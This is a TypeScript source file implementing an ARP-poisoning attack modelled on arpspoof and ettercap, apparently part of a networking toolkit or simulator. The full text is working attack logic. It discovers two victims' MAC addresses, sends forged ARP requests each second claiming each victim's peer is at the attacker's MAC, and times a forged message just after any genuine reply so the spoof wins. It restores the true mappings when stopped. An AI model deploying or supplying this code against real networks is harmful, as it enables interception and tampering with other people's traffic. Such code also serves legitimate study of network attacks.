/**
 * ARP poisoning (as arpspoof and ettercap do): two stations each come to believe that the other one is at the attacker's MAC
 * address. What they believe is repeated, since entries age, and whenever one of them asks.
 */
import { WireError } from '../../base/errors.js'
import { milliseconds, seconds, type Nanos } from '../../base/units.js'
import { ipv4Text, MAC_BROADCAST, macText, type Ipv4Address, type MacAddress } from '../../net/wire/addresses.js'
import { ARP_OPERATION, decodeArp, encodeArp, type ArpMessage } from '../../net/wire/arp.js'
import { decodeEthernet, encodeEthernet, ETHERTYPE } from '../../net/wire/ethernet.js'
import type { Reach, Sleeper } from '../reach.js'

/** Between two rounds of forged messages. */
export const POISON_INTERVAL_NS: Nanos = seconds(1)
const ASK_INTERVAL_NS = milliseconds(100)
const ASK_MAX = 20
/** The true answer to a question that everybody heard comes first; the last one is believed. */
const AFTER_TRUTH_NS = milliseconds(1)

export type Victims = readonly [Ipv4Address, Ipv4Address]

export class ArpSpoof implements Sleeper {
  private readonly macs = new Map<Ipv4Address, MacAddress>()
  private asked = 0
  private isOn = false
  /** Forged messages sent. */
  forged = 0

  constructor(
    private readonly reach: Reach,
    readonly victims: Victims,
  ) {}

  /** Where a victim really is; undefined until it has said so. */
  macOf(address: Ipv4Address): MacAddress | undefined {
    return this.macs.get(address)
  }

  get isReady(): boolean {
    return this.macs.size === this.victims.length
  }

  start(): void {
    this.isOn = true
    this.woken()
  }

  /** Tell both the truth again. */
  stop(): void {
    if (!this.isOn) return
    this.isOn = false
    if (this.isReady) for (const [victim, other] of this.pairs()) this.claim(victim, other, this.macs.get(other) ?? 0)
  }

  woken(): void {
    if (!this.isOn) return
    if (this.isReady) {
      this.poison()
      this.reach.wakeAfter(POISON_INTERVAL_NS, this)
    } else if (this.asked < ASK_MAX) {
      this.asked++
      for (const victim of this.victims) if (!this.macs.has(victim)) this.ask(victim)
      this.reach.wakeAfter(ASK_INTERVAL_NS, this)
    } else {
      const silent = this.victims.filter((victim) => !this.macs.has(victim)).map(ipv4Text)
      this.reach.tell('poison', `nobody answers for ${silent.join(' and ')}: given up`)
      this.isOn = false
    }
  }

  /** True when the frame was a message about the victims. */
  takesFrame(frame: Uint8Array): boolean {
    const message = arpIn(frame)
    if (message === null || !this.isOn) return false
    const { operation, senderAddress, senderMac, targetAddress } = message
    if (!this.victims.includes(senderAddress) || senderMac === this.reach.mac) return false
    if (!this.macs.has(senderAddress)) {
      this.macs.set(senderAddress, senderMac)
      if (this.isReady) this.begin()
    }
    if (operation !== ARP_OPERATION.request || !this.isReady || !this.victims.includes(targetAddress)) return false
    this.reach.wakeAfter(AFTER_TRUTH_NS, new Rejoinder(this))
    return true
  }

  /** Both victims once more. */
  poison(): void {
    if (!this.isOn) return
    for (const [victim, other] of this.pairs()) {
      this.claim(victim, other, this.reach.mac)
      this.forged++
    }
  }

  private begin(): void {
    const [a, b] = this.victims
    const where = [a, b].map((victim) => `${ipv4Text(victim)} is at ${macText(this.macs.get(victim) ?? 0)}`)
    this.reach.tell('poison', `${where.join(', ')}; each is told that the other is at ${macText(this.reach.mac)}`)
    this.poison()
  }

  private pairs(): readonly (readonly [Ipv4Address, Ipv4Address])[] {
    const [a, b] = this.victims
    return [
      [a, b],
      [b, a],
    ]
  }

  private ask(victim: Ipv4Address): void {
    const { mac, address } = this.reach
    const question = { senderMac: mac, senderAddress: address, targetMac: 0, targetAddress: victim }
    this.send(MAC_BROADCAST, { operation: ARP_OPERATION.request, ...question })
  }

  /**
   * A question to `victim` alone that comes from `other`, as far as it says. Whoever is asked takes the asker into its table
   * (RFC 826, "packet reception"), which it need not do with an answer that it did not ask for.
   */
  private claim(victim: Ipv4Address, other: Ipv4Address, mac: MacAddress): void {
    const message = { senderMac: mac, senderAddress: other, targetMac: 0, targetAddress: victim }
    this.send(this.macs.get(victim) ?? MAC_BROADCAST, { operation: ARP_OPERATION.request, ...message })
  }

  private send(destination: MacAddress, message: ArpMessage): void {
    const { arp: etherType } = ETHERTYPE
    const payload = encodeArp(message)
    this.reach.sendFrame(encodeEthernet({ destination, source: this.reach.mac, vlan: null, etherType, payload }))
  }
}

/** Has the last word after a true answer. */
class Rejoinder implements Sleeper {
  constructor(private readonly spoof: ArpSpoof) {}

  woken(): void {
    this.spoof.poison()
  }
}

/** The ARP message of a frame, or null. */
export function arpIn(frame: Uint8Array): ArpMessage | null {
  try {
    const { etherType, payload } = decodeEthernet(frame)
    return etherType === ETHERTYPE.arp ? decodeArp(payload) : null
  } catch (error) {
    if (!(error instanceof WireError)) throw error
    return null
  }
}
